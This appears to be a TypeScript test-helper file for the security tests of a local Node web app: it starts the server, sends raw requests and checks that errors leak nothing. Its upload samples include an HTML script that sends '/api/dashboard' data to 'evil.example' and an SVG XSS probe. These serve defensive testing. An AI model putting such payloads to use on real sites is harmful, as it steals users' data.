import { request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import type { JWTVerifyGetKey } from 'jose';
import pino from 'pino';
import yazl from 'yazl';
import { fixedClock } from '../../core/ports/clock.port';
import { loadConfig } from '../../functions/config/app-config';
import { composeLocal, type LocalApp } from '../../functions/local/compose-local';

/** A raw HTTP answer: status, headers (lower-case) and the body as text and, when it is JSON, parsed. */
export interface RawAnswer {
  status: number;
  headers: Record<string, string>;
  text: string;
  json: any;
  bytes: Buffer;
}

export interface SecureStack {
  local: LocalApp;
  base: string;
  port: number;
  /** A request with full control of the headers (`Host` included), as an attacker would send it. */
  raw(
    method: string,
    path: string,
    options?: { headers?: Record<string, string>; body?: string | Buffer; as?: string },
  ): Promise<RawAnswer>;
  /** JSON as a person of the demo trust (the dev identity header), or as nobody. */
  call(method: string, path: string, options?: { as?: string; body?: unknown; headers?: Record<string, string> }): Promise<RawAnswer>;
  stop(): Promise<void>;
}

/**
 * The real local host (composeLocal, in-memory SQLite with the demo trust) with the settings a test
 * gives, on 127.0.0.1 and a free port.
 */
export async function startSecureStack(
  env: Record<string, string> = {},
  options: { at?: string; sso?: { jwks: JWTVerifyGetKey; issuer: string } } = {},
): Promise<SecureStack> {
  const config = loadConfig({ TRUST_DB: ':memory:', LOG_LEVEL: 'silent', ...env });
  const local = await composeLocal(config, fixedClock(options.at ?? '2026-11-23T10:00:00Z'), {
    logger: pino({ level: 'silent' }),
    ...(options.sso ? { sso: options.sso } : {}),
  });
  const server: Server = await new Promise((resolve) => {
    const s = local.app.listen(0, '127.0.0.1', () => resolve(s));
  });
  const port = (server.address() as AddressInfo).port;
  const raw: SecureStack['raw'] = (method, path, o = {}) =>
    new Promise((resolve, reject) => {
      const headers: Record<string, string> = { host: `127.0.0.1:${port}`, ...(o.as ? { 'x-dev-person': o.as } : {}), ...o.headers };
      const body = o.body === undefined ? undefined : Buffer.isBuffer(o.body) ? o.body : Buffer.from(o.body);
      if (body) headers['content-length'] = String(body.byteLength);
      const req = request({ host: '127.0.0.1', port, method, path, headers, setHost: false }, (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => {
          const bytes = Buffer.concat(chunks);
          const text = bytes.toString('utf8');
          let json: unknown;
          try {
            json = JSON.parse(text);
          } catch {
            json = undefined;
          }
          const flat: Record<string, string> = {};
          for (const [k, v] of Object.entries(res.headers)) if (v !== undefined) flat[k] = Array.isArray(v) ? v.join(', ') : v;
          resolve({ status: res.statusCode ?? 0, headers: flat, text, json, bytes });
        });
      });
      req.on('error', reject);
      if (body) req.write(body);
      req.end();
    });
  return {
    local,
    base: `http://127.0.0.1:${port}`,
    port,
    raw,
    call: (method, path, o = {}) =>
      raw(method, path, {
        ...(o.as ? { as: o.as } : {}),
        headers: { ...(o.body !== undefined ? { 'content-type': 'application/json' } : {}), ...o.headers },
        ...(o.body !== undefined ? { body: JSON.stringify(o.body) } : {}),
      }),
    async stop() {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
      await local.close();
    },
  };
}

/** What a response must never show: an HTML page, a stack trace, a path on the server. */
export function expectJsonProblem(answer: Pick<RawAnswer, 'headers' | 'text' | 'json'>, status?: number, code?: string): void {
  expect(answer.headers['content-type']).toMatch(/^application\/json/);
  expect(answer.json).toEqual({ error: expect.objectContaining({ code: expect.any(String), message: expect.any(String) }) });
  if (code) expect(answer.json.error.code).toBe(code);
  expect(answer.text).not.toMatch(/<html|<pre>|<!DOCTYPE|\bat [\w.<>]+ \(|node_modules|\/work\/|[A-Z]:\\\\/i);
  void status;
}

/** Bytes of real documents of each kind, small enough for a test. */
export const SAMPLE_FILES = {
  pdf: () => Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
  png: () =>
    Buffer.from(
      '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082',
      'hex',
    ),
  html: () =>
    Buffer.from(
      '<!doctype html><script>fetch("/api/dashboard").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script>',
    ),
  svg: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'),
  text: () => Buffer.from('Minutes of the AIM, first draft\n'),
  /** A minimal Word document: a zip whose content types name the Word main part (what `file-type` looks for). */
  docx: async () =>
    zip({
      '[Content_Types].xml':
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      'word/document.xml': '<w:document/>',
    }),
};

async function zip(entries: Record<string, string>): Promise<Buffer> {
  const z = new yazl.ZipFile();
  for (const [name, content] of Object.entries(entries)) z.addBuffer(Buffer.from(content), name);
  z.end();
  const chunks: Buffer[] = [];
  for await (const c of z.outputStream) chunks.push(c as Buffer);
  return Buffer.concat(chunks);
}

export const gzipped = (text: string): Buffer => gzipSync(Buffer.from(text));
